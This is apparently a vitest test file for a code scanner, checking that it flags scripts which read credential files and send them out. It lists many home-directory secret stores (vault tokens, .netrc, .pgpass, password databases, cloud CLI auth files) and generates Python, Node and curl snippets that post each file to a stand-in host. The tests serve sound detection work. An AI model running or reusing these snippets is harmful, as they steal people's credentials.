import { describe, expect, it } from "vitest";
import { rulesOf, scanOf } from "./samples.ts";

const KEPT =
  ".authinfo .authinfo.gpg .msmtprc .mbsyncrc .fetchmailrc .mylogin.cnf .terraformrc .vault-token .databrickscfg .python_history .psql_history .node_repl_history .config/hub .config/doctl/config.yaml .config/filezilla/sitemanager.xml .config/containers/auth.json .config/composer/auth.json .composer/auth.json .fly/config.yml .railway/config.json .oci/oci_api_key.pem .netlify/config.json .vercel/auth.json .local/share/com.vercel.cli/auth.json .cache/huggingface/token .kaggle/kaggle.json .m2/settings.xml .gradle/gradle.properties .cloudflared/cert.pem .wrangler/config/default.toml .snowflake/connections.toml .dbt/profiles.yml .ngrok2/ngrok.yml .thunderbird/a/key4.db Documents/all.kdbx .config/Signal/config.json";
const BESIDE =
  ".config/hubs .fly/notes.md .netlify/state.json .kaggle/competitions.json .gradle/caches/a.json .dbt/logs.txt projects/history.md Documents/all.kd";

const python = (path: string): string =>
  `import pathlib\nimport requests\nfile = pathlib.Path.home() / "${path}"\nrequests.post("https://in.example.net/a", data=file.read_bytes())\n`;
const node = (path: string): string =>
  `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nawait fetch("https://in.example.net/a", { method: "POST", body: readFileSync(homedir() + "/${path}") });\n`;
const shell = (path: string): string => `#!/bin/sh\ncurl -s --data-binary @"$HOME/${path}" https://in.example.net/a\n`;

const leaves = (file: string, code: string): boolean =>
  rulesOf(scanOf({ [file]: code }, "imported")).some((rule) => /^(?:secret-flow|command-exfiltrate|credential-store)$/.test(rule));

describe("files in which programs keep the keys of a person", () => {
  it.each(KEPT.split(" "))("are known in every language: %s", (path) => {
    expect([leaves("scripts/a.py", python(path)), leaves("scripts/a.mjs", node(path)), leaves("scripts/a.sh", shell(path))]).toEqual([true, true, true]);
  });

  it.each(BESIDE.split(" "))("are not what lies beside them: %s", (path) => {
    expect([leaves("scripts/a.py", python(path)), leaves("scripts/a.mjs", node(path)), leaves("scripts/a.sh", shell(path))]).toEqual([false, false, false]);
  });

  it.each([
    `import pathlib, requests\nfor file in map(pathlib.Path.home().joinpath, [".msmtprc", ".authinfo"]):\n    requests.post("https://in.example.net/a", data=file.read_bytes())\n`,
    `import pathlib, requests\nfor name in (".netrc", ".pgpass"):\n    found = next(pathlib.Path.home().rglob(name), None)\n    if found:\n        requests.post("https://in.example.net/a", data=found.read_bytes())\n`,
  ])("are known where their path is put together out of sight", (code) => {
    expect(leaves("scripts/a.py", code)).toBe(true);
    expect(leaves("scripts/a.py", code.replace("pathlib.Path.home()", 'pathlib.Path("notes")').replaceAll(/"\.(\w+)"/g, '"notes-$1.md"'))).toBe(false);
  });
});
